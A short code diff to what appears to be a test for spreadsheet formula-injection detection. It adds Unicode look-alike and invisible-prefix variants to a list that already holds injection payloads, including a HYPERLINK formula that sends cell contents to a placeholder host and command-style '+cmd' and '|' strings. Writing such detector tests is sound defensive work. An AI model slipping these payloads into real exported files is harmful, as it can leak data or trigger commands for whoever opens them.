@@ -17,6 +17,7 @@ from spectra.rejection_log import RejectionLog
 from wire.spreadsheet import cell, text_of
 
 FORMULAS = ['=HYPERLINK("http://x/?"&A1,"x")', "+1+cmd", "-2+3|x", "@SUM(A1)", "\t=1", " =1", "\r=1", "%0A=1"]
+FORMULAS += ["\uff1d1+1", "\uff0b1", "\uff0dx", "\uff20a", "\u00a0=1", "\ufeff=1", "\u200b=1"]
 PLAIN = ["star", "-1.5", "+3e5", "a=b", "", "'quoted", "1-2", "-.5", "Hα -> 6563"]
 
 
